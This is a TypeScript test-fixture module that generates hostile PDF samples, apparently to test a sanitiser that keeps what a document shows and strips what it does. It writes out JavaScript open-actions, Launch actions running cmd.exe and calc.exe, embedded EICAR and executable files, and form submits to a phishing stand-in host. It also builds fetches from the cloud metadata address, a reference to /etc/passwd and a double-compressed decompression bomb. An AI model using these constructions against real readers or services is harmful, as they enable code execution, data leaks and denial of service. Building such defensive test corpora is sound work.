import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import PDFDocument from 'pdfkit';
import { bytes, EICAR, type HostileFile, utf8 } from './hostile-file.ts';

/** Objects by number, written one after the other with their table; an object may be a stream. */
export function pdfOf(objects: Readonly<Record<number, string | Buffer>>, trailer = ''): Buffer {
  const parts: Buffer[] = [bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  const places = new Map<number, number>();
  const size = (): number => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [number, object] of Object.entries(objects)) {
    places.set(Number(number), size());
    parts.push(
      Buffer.concat([bytes(`${number} 0 obj\n`), Buffer.from(object as string, 'latin1'), bytes('\nendobj\n')]),
    );
  }
  const start = size();
  const count = Math.max(...places.keys()) + 1;
  const rows = Array.from({ length: count }, (_, n) => {
    const place = places.get(n);
    return place === undefined ? '0000000000 65535 f \n' : `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  parts.push(
    bytes(
      `xref\n0 ${count}\n${rows.join('')}trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const stream = (content: Buffer, dictionary = ''): Buffer =>
  Buffer.concat([bytes(`<< /Length ${content.length} ${dictionary} >>\nstream\n`), content, bytes('\nendstream')]);

const SHOWN = bytes('BT /F1 24 Tf 40 100 Td (Bonjour) Tj ET');

/** A page that says « Bonjour », and whatever is put into its catalogue, its page and beside them. */
function page(catalogue: string, ofPage = '', more: Record<number, string | Buffer> = {}, content = SHOWN): Buffer {
  return pdfOf({
    1: `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> ${ofPage} >>`,
    4: stream(content),
    5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  });
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\);this.exportDataObject\\({cName:"x",nLaunch:2}\\)) >>';
const annotation = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${action} >>]`;

function active(): readonly HostileFile[] {
  const shown = (what: string, content: Buffer): HostileFile => ({
    what,
    name: 'facture.pdf',
    content,
    fate: 'copied',
    shows: 'Bonjour',
  });
  const form = `/AcroForm << /Fields [7 0 R] /NeedAppearances true >>`;
  const widget = (action: string): Record<number, string> => ({
    7: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (rempli) /Rect [10 10 200 40] /DA (/F1 12 Tf 0 g) ${action} >>`,
  });
  return [
    shown('a script when it opens', page(`/OpenAction ${SCRIPT}`)),
    shown('a script by name', page(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`)),
    shown('a script of the page', page('', `/AA << /O ${SCRIPT} /C ${SCRIPT} >>`)),
    shown('a script of the catalogue', page(`/AA << /WC ${SCRIPT} /WP ${SCRIPT} >>`)),
    shown(
      'a program that starts',
      page('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    ),
    shown('a program that starts at a click', page('', annotation('<< /S /Launch /F (calc.exe) >>'))),
    shown(
      'a file inside',
      page('/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>', '', {
        7: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>',
        8: stream(utf8(EICAR), '/Type /EmbeddedFile'),
      }),
    ),
    shown(
      'an attached note',
      page('', '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>]', {
        7: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>',
        8: stream(bytes('MZ'), '/Type /EmbeddedFile'),
      }),
    ),
    shown('an address', page('', annotation('<< /S /URI /URI (https://phishing.example/entente) >>'))),
    shown('an address that is a script', page('', annotation('<< /S /URI /URI (javascript:alert\\(1\\)) >>'))),
    shown(
      'a form that sends itself',
      page(form, '/Annots [7 0 R]', widget('/A << /S /SubmitForm /F (https://phishing.example/) >>')),
    ),
    shown(
      'a form that counts by script',
      page(
        `/AcroForm << /Fields [7 0 R] /CO [7 0 R] >>`,
        '/Annots [7 0 R]',
        widget(`/AA << /K ${SCRIPT} /F ${SCRIPT} /C ${SCRIPT} >>`),
      ),
    ),
    shown(
      'a form that fetches',
      page(form, '/Annots [7 0 R]', widget('/A << /S /ImportData /F (\\\\\\\\host\\\\share) >>')),
    ),
    shown('another document', page('/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>')),
    shown('a document inside', page('/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>')),
    shown(
      'XFA',
      page('/AcroForm << /Fields [] /XFA 7 0 R >>', '', {
        7: stream(utf8('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')),
      }),
    ),
    shown(
      'a film',
      page('', '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]'),
    ),
    shown('a sound and a rendition', page('', annotation('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>'))),
    shown(
      'a hidden layer',
      page('/OCProperties << /OCGs [7 0 R] /D << /OFF [7 0 R] >> >>', '', { 7: '<< /Type /OCG /Name (secret) >>' }),
    ),
    shown(
      'an image fetched from elsewhere',
      page(
        '',
        '',
        {
          6: '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F (http://169.254.169.254/) /Length 0 >>\nstream\n\nendstream',
        },
        bytes('/X Do BT /F1 24 Tf 40 100 Td (Bonjour) Tj ET'),
      ),
    ),
    shown('a zip behind its end', Buffer.concat([page(''), zipSync({ 'eicar.com': utf8(EICAR) })])),
    shown(
      'a web page in its comments',
      page('/OpenAction 9 0 R', '', { 9: `<< /S /JavaScript /JS (</pdf><script>alert\\(1\\)</script>) >>` }),
    ),
  ];
}

function broken(): readonly HostileFile[] {
  const file = (what: string, content: Buffer, fate: HostileFile['fate']): HostileFile => ({
    what,
    name: 'a.pdf',
    content,
    fate,
  });
  const bomb = deflateSync(deflateSync(Buffer.alloc(400_000_000, ' '), { level: 9 }), { level: 9 });
  const pages = (count: number): Record<number, string> => ({
    1: '<< /Type /Catalog /Pages 2 0 R >>',
    2: `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>`,
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>',
  });
  const image =
    '<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length 8 >>\nstream\nx\x9c\x03\0\0\0\0\x01\nendstream';
  const many = Object.fromEntries(Array.from({ length: 15_000 }, (_, n) => [n + 10, `<< /N ${n} >>`]));
  return [
    file('a header and nothing else', bytes('%PDF-1.7\n'), 'no-copy'),
    file('a header and noise', Buffer.concat([bytes('%PDF-1.7\n'), noise(5_000)]), 'no-copy'),
    file('half of it', page('').subarray(0, 300), 'copied-or-not'),
    file(
      'no page',
      pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [] /Count 0 >>' }),
      'no-copy',
    ),
    file(
      'a tree of pages that bites its tail',
      pdfOf({ 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
      'copied-or-not',
    ),
    file('a table that bites its tail', pdfOf({ ...pages(1) }, '/Prev 9'), 'copied-or-not'),
    file(
      'an object that is its own length',
      pdfOf({ ...pages(1), 4: '<< /Length 4 0 R >>\nstream\nendstream' }),
      'copied-or-not',
    ),
    file(
      'a million pages',
      pdfOf({ ...pages(1), 2: '<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>' }),
      'copied-or-not',
    ),
    file('three hundred pages', pdfOf(pages(300)), 'no-copy'),
    file(
      'a page of fourteen million points',
      page('', '/MediaBox [0 0 14400000 14400000] /UserUnit 1000'),
      'copied-or-not',
    ),
    file('a page of no size', page('', '/MediaBox [0 0 0 0]'), 'copied-or-not'),
    file('a page longer than a street', page('', '/MediaBox [0 0 1 100000]'), 'copied-or-not'),
    file(
      'a page of 400 million blanks, packed twice',
      page('', '', { 4: stream(bomb, '/Filter [/FlateDecode /FlateDecode]') }),
      'copied-or-not',
    ),
    file(
      'a picture of ten billion points',
      page('', '', { 6: image }, bytes('300 0 0 200 0 0 cm /X Do')),
      'copied-or-not',
    ),
    file(
      'a drawing that draws itself',
      page(
        '',
        '',
        {
          6: stream(
            bytes('/X Do '.repeat(50)),
            '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
          ),
        },
        bytes('/X Do'),
      ),
      'copied-or-not',
    ),
    file(
      'a hundred thousand brackets',
      pdfOf({ ...pages(1), 9: `${'['.repeat(100_000)}` }, '/Info 9 0 R'),
      'copied-or-not',
    ),
    file('fifteen thousand objects', pdfOf({ ...pages(1), ...many }), 'copied'),
    file('thousands of strokes', page('', '', {}, bytes('0 0 m 300 200 l S\n'.repeat(5_000))), 'copied-or-not'),
  ];
}

/** Always the same noise. */
function noise(length: number): Buffer {
  let state = 7;
  const next = (): number => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return state & 255;
  };
  return Buffer.from(Array.from({ length }, next));
}

async function locked(): Promise<Buffer> {
  const document = new PDFDocument({ userPassword: 'secret', ownerPassword: 'other', pdfVersion: '1.7' });
  const chunks: Buffer[] = [];
  document.on('data', (chunk: Buffer) => chunks.push(chunk));
  const written = new Promise((done) => document.on('end', done));
  document.text('Bonjour');
  document.end();
  await written;
  return Buffer.concat(chunks);
}

/** Documents. What they show is kept; what they do is not. */
export async function pdfs(): Promise<readonly HostileFile[]> {
  return [...active(), ...broken(), { what: 'a password', name: 'a.pdf', content: await locked(), fate: 'no-copy' }];
}
